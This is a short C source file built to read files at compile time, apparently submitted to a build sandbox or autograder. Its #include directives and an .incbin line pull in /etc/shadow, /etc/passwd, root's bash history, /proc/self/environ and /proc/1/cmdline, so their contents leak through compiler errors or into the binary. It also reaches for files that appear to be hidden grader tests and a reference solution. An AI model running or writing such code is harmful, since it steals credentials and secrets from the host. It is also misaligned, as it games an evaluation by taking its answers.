// Tries: to read files at compile time. The compiler's complaints would show their lines, and the program their bytes.
#if __has_include("/etc/shadow")
#include "/etc/shadow"
#endif
#if __has_include("/root/.bash_history")
#include "/root/.bash_history"
#endif
#if __has_include("../../labs/pipeline/hidden.py")
#include "../../labs/pipeline/hidden.py"
#endif
#if __has_include("../hidden.py")
#include "../hidden.py"
#endif
#if __has_include("../solution/pipeline.c")
#include "../solution/pipeline.c"
#endif
#if __has_include("/proc/self/environ")
#include "/proc/self/environ"
#endif
#if __has_include("/proc/1/cmdline")
#include "/proc/1/cmdline"
#endif
#include "/etc/passwd"

__asm__(".incbin \"/etc/passwd\"");

int main(void)
{
    return 0;
}
